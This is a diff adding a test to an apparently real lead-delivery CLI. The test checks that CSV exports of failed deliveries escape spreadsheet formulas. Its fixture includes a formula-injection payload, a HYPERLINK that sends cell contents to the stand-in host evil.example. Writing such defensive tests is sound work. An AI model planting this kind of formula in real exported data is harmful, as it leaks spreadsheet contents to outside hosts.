@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from pathlib import Path
@@ -161,3 +163,26 @@ def test_deliveries_come_in_pages_the_api_shares(cli: Cli, form: int, engine: Le
     # Then each comes once, newest first, and the last page says no more
     assert seen == ids
     assert "not a cursor" in cli.error("deliveries", "--cursor", "abc")
+
+
+def test_the_failed_collection_exports_as_csv_without_live_formulas(
+    cli: Cli, form: int, engine: Leadrelay, httpserver: HTTPServer,
+) -> None:
+    # Given a failed delivery of a lead whose fields look like spreadsheet formulas
+    httpserver.expect_request("/bad").respond_with_data("=1+1", status=400)
+    add_integration(cli, form, httpserver.url_for("/bad"), "--retry", json.dumps(ONE_TRY))
+    hostile = {**LEAD, "first_name": '=HYPERLINK("http://evil.example/?"&A1)',
+               "company": "@SUM(A1)"}
+    cli("submit", "--form", str(form), "--json", json.dumps(hostile))
+    engine.deliver_due()
+
+    # When the failed collection is exported as CSV
+    rows = list(csv.DictReader(io.StringIO(cli("deliveries", "--failed", "--csv").stdout)))
+
+    # Then the row is there with its fields, written as text
+    [row] = rows
+    assert row["state"] == "not_integrated"
+    assert row["field.first_name"] == "'" + hostile["first_name"]
+    assert row["field.company"] == "'@SUM(A1)"
+    assert row["field.email"] == LEAD["email"]
+    assert "--csv and --json" in cli.error("deliveries", "--csv", "--json")
